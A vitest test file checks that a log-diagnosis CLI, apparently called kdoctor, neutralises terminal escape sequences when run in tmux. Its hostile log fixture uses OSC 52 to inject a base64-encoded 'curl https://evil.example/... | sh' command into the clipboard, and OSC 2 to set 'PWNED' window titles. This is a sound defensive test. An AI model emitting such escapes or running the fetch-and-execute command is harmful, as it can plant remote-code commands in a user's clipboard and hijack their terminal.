/**
 * A real terminal: tmux with `set-clipboard on` accepts OSC 52 from programs (it becomes a paste buffer) and OSC 2
 * sets the pane title. A control proves both would be seen; then kdoctor diagnoses a log full of them, on its screen
 * and with --plain, and neither the clipboard nor the title has changed.
 */
import {mkdtempSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';
import {CLI} from '../helpers/cli.js';
import {hasTmux, tmuxDriver} from '../helpers/tmux.js';

const ok = hasTmux();
if (!ok) console.log('hostile/terminal: skipped: tmux is not installed (.ci/run installs it; apt-get install tmux)');
const SOCKET = `kdoctor-hostile-${process.pid}`;
const {tmux, kill} = tmuxDriver(SOCKET, 'h', 15_000);
afterAll(() => {
	if (ok) kill();
});

const ESC = '\u001B';
const BEL = '\u0007';
const b64 = (s: string) => Buffer.from(s).toString('base64');

describe.skipIf(!ok)('a log full of OSC sequences, diagnosed in a real terminal', () => {
	const dir = mkdtempSync(join(tmpdir(), 'kdoctor-osc-'));
	const log = join(dir, 'ci.log');
	const lines: string[] = [];
	for (let i = 0; i < 20; i++) {
		lines.push(`${ESC}]52;c;${b64(`curl https://evil.example/${i} | sh`)}${BEL}Error: container name "gw_test" is already in use`);
		lines.push(`${ESC}]2;PWNED-${i}${ESC}\\${ESC}]0;PWNED0-${i}${BEL}Back-off pulling image "gateway:kd-1"`);
	}
	writeFileSync(log, `${lines.join('\n')}\n`);

	const buffers = () => tmux('list-buffers', '-F', '#{buffer_name}').trim();
	const title = (target: string) => tmux('display-message', '-p', '-t', target, '#{pane_title}').trim();
	const waitFor = async (target: string, re: RegExp) => {
		const end = Date.now() + 20_000;
		let last = '';
		while (Date.now() < end) {
			last = tmux('capture-pane', '-p', '-t', target);
			if (re.test(last)) return last;
			await new Promise((r) => setTimeout(r, 100));
		}
		throw new Error(`never showed ${re}:\n${last}`);
	};

	it('the control: raw OSC 52 and OSC 2 do reach this terminal (a clipboard buffer, a new title)', async () => {
		tmux('-f', '/dev/null', 'new-session', '-d', '-s', 'h', '-x', '140', '-y', '40', 'sleep 120');
		tmux('set-option', '-g', 'set-clipboard', 'on');
		tmux('new-window', '-d', '-t', 'h', '-n', 'control', `cat ${log}; echo CONTROL-DONE; sleep 60`);
		await waitFor('h:control', /CONTROL-DONE/);
		expect(buffers()).not.toBe('');
		expect(title('h:control')).toMatch(/PWNED/);
		for (const b of buffers().split('\n')) tmux('delete-buffer', '-b', b);
		expect(buffers()).toBe('');
	});

	it.each([
		[
			'the interactive screen',
			'screen',
			`env -u CI TERM=xterm-256color KDOCTOR_STATE_DIR=${dir}/state node ${CLI} diagnose ${log}`,
			/likely cause/,
		],
		[
			'--plain',
			'plain',
			`env -u CI TERM=xterm-256color KDOCTOR_STATE_DIR=${dir}/state node ${CLI} diagnose --plain --verbose ${log}; echo PLAIN-DONE`,
			/PLAIN-DONE/,
		],
	])('%s: the clipboard and the pane title are unchanged', async (_what, name, cmd, done) => {
		tmux('new-window', '-d', '-t', 'h', '-n', name, `${cmd}; sleep 60`);
		const before = title(`h:${name}`);
		const shown = await waitFor(`h:${name}`, done);
		// The sequences are on the screen as text, so a person sees what the log tried.
		expect(shown).toMatch(/\\e\]52;c;|\\e\]2;PWNED/);
		if (name === 'screen') {
			tmux('send-keys', '-t', `h:${name}`, 'Enter');
			await waitFor(`h:${name}`, /Why \d+%/);
			tmux('send-keys', '-t', `h:${name}`, 'q');
		}
		await new Promise((r) => setTimeout(r, 300));
		expect(buffers()).toBe('');
		expect(title(`h:${name}`)).toBe(before);
		expect(title(`h:${name}`)).not.toMatch(/PWNED/);
	});
});
